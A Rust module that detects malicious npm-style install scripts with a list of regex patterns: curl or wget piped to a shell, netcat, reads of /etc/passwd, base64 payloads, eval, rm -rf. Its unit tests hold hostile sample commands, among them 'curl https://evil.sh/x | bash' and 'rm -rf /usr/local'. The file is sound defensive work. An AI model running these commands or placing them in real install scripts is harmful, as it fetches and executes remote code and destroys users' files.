//! Malicious install-script detection over registry-provided lifecycle
//! hook bodies.

use super::ThreatCheck;
use crate::risk_analysis::domain::{
    Dependency, PackageInfo, Severity, SupplyChainThreat, ThreatKind,
};
use chrono::{DateTime, Utc};
use once_cell::sync::Lazy;
use regex::Regex;

/// Suspicious script patterns, each with a short label surfaced as
/// evidence. Compiled once.
static SUSPICIOUS_PATTERNS: Lazy<Vec<(Regex, &'static str)>> = Lazy::new(|| {
    [
        (r"(?i)\bcurl\b[^\n|]*\|\s*(?:sh|bash)\b", "remote script piped to shell"),
        (r"(?i)\bwget\b[^\n|]*\|\s*(?:sh|bash)\b", "remote script piped to shell (wget)"),
        (r"(?i)\bcurl\s+-[a-z]*o\b", "remote file download (curl)"),
        (r"(?i)\bwget\s+", "remote file download (wget)"),
        (r"(?:^|[;&\s])(?:sh|bash)\s+-c\b", "shell execution primitive"),
        (r"child_process|execSync\s*\(|spawnSync\s*\(", "child process execution"),
        (r"\beval\s*\(", "dynamic code evaluation"),
        (r"new\s+Function\s*\(", "dynamic function construction"),
        (r"rm\s+-[a-z]*rf?\s+[/~$]", "destructive filesystem command"),
        (r"(?i)\bsudo\s+", "privilege escalation"),
        (r"chmod\s+\+[sx]\b", "permission modification"),
        (r"(?i)base64\s+(?:-d|--decode)", "base64-decoded payload"),
        (r#"Buffer\.from\s*\([^)]*,\s*['"]base64['"]\)"#, "base64-decoded payload (Buffer)"),
        (r"(\\x[0-9a-fA-F]{2}){4,}", "hex-obfuscated string"),
        (r"(?i)/etc/(?:passwd|shadow)", "credential file access"),
        (r"(?i)\bnc\s+(?:-[a-z]+\s+)*\S+\s+\d+", "netcat connection"),
    ]
    .iter()
    .map(|(pattern, label)| {
        (
            Regex::new(pattern).expect("suspicious-script pattern must compile"),
            *label,
        )
    })
    .collect()
});

/// Flags package versions whose lifecycle scripts (preinstall, install,
/// postinstall, ...) match known-malicious patterns. Emits one Critical
/// threat per offending version listing every pattern that matched.
pub struct InstallScriptCheck;

impl InstallScriptCheck {
    pub fn new() -> Self {
        Self
    }

    fn matched_labels(script_body: &str) -> Vec<&'static str> {
        SUSPICIOUS_PATTERNS
            .iter()
            .filter(|(regex, _)| regex.is_match(script_body))
            .map(|(_, label)| *label)
            .collect()
    }
}

impl Default for InstallScriptCheck {
    fn default() -> Self {
        Self::new()
    }
}

impl ThreatCheck for InstallScriptCheck {
    fn name(&self) -> &'static str {
        "install-scripts"
    }

    fn check(
        &self,
        dependency: &Dependency,
        info: Option<&PackageInfo>,
        now: DateTime<Utc>,
    ) -> Vec<SupplyChainThreat> {
        let info = match info {
            Some(info) => info,
            None => return Vec::new(),
        };

        let mut threats = Vec::new();
        let mut versions: Vec<&String> = info.install_scripts.keys().collect();
        versions.sort();

        for version in versions {
            let hooks = &info.install_scripts[version];
            let combined = hooks
                .values()
                .map(String::as_str)
                .collect::<Vec<_>>()
                .join("\n");
            let labels = Self::matched_labels(&combined);
            if labels.is_empty() {
                continue;
            }

            let mut hook_names: Vec<&String> = hooks.keys().collect();
            hook_names.sort();
            let evidence: Vec<String> = labels
                .iter()
                .map(|label| format!("version {}: {}", version, label))
                .collect();

            threats.push(
                SupplyChainThreat::new(
                    ThreatKind::MaliciousScript,
                    &dependency.name,
                    Severity::Critical,
                    format!(
                        "Install scripts of {}@{} ({}) match {} suspicious pattern(s)",
                        dependency.name,
                        version,
                        hook_names
                            .iter()
                            .map(|s| s.as_str())
                            .collect::<Vec<_>>()
                            .join(", "),
                        labels.len()
                    ),
                    now,
                )
                .with_evidence(evidence)
                .with_recommendations(vec![
                    "Audit the package's install scripts before installing".to_string(),
                    "Consider installing with lifecycle scripts disabled".to_string(),
                ]),
            );
        }

        threats
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    fn info_with_script(version: &str, hook: &str, body: &str) -> PackageInfo {
        let mut info = PackageInfo::new("evil-pkg");
        let mut hooks = HashMap::new();
        hooks.insert(hook.to_string(), body.to_string());
        info.install_scripts.insert(version.to_string(), hooks);
        info
    }

    fn run(info: &PackageInfo) -> Vec<SupplyChainThreat> {
        InstallScriptCheck::new().check(
            &Dependency::new("evil-pkg", "*"),
            Some(info),
            Utc::now(),
        )
    }

    #[test]
    fn test_curl_pipe_to_shell_flagged() {
        let info = info_with_script("1.0.0", "postinstall", "curl https://evil.sh/x | bash");
        let threats = run(&info);
        assert_eq!(threats.len(), 1);
        assert_eq!(threats[0].severity, Severity::Critical);
        assert_eq!(threats[0].kind, ThreatKind::MaliciousScript);
        assert!(threats[0].evidence.iter().any(|e| e.contains("piped to shell")));
    }

    #[test]
    fn test_destructive_rm_flagged() {
        let info = info_with_script("1.0.0", "preinstall", "rm -rf /usr/local");
        assert_eq!(run(&info).len(), 1);
    }

    #[test]
    fn test_base64_obfuscation_flagged() {
        let info = info_with_script(
            "1.0.0",
            "install",
            "node -e \"eval(Buffer.from('ZXZpbA==', 'base64').toString())\"",
        );
        let threats = run(&info);
        assert_eq!(threats.len(), 1);
        // Both eval and the base64 Buffer decode should contribute evidence.
        assert!(threats[0].evidence.len() >= 2);
    }

    #[test]
    fn test_benign_script_not_flagged() {
        let info = info_with_script("1.0.0", "postinstall", "node scripts/build.js");
        assert!(run(&info).is_empty());
    }

    #[test]
    fn test_one_threat_per_offending_version() {
        let mut info = info_with_script("1.0.0", "postinstall", "curl https://x.sh | sh");
        let mut hooks = HashMap::new();
        hooks.insert("preinstall".to_string(), "sudo rm -rf /tmp/x".to_string());
        info.install_scripts.insert("1.1.0".to_string(), hooks);

        let threats = run(&info);
        assert_eq!(threats.len(), 2);
    }

    #[test]
    fn test_no_registry_info_yields_no_findings() {
        let threats = InstallScriptCheck::new().check(
            &Dependency::new("evil-pkg", "*"),
            None,
            Utc::now(),
        );
        assert!(threats.is_empty());
    }
}
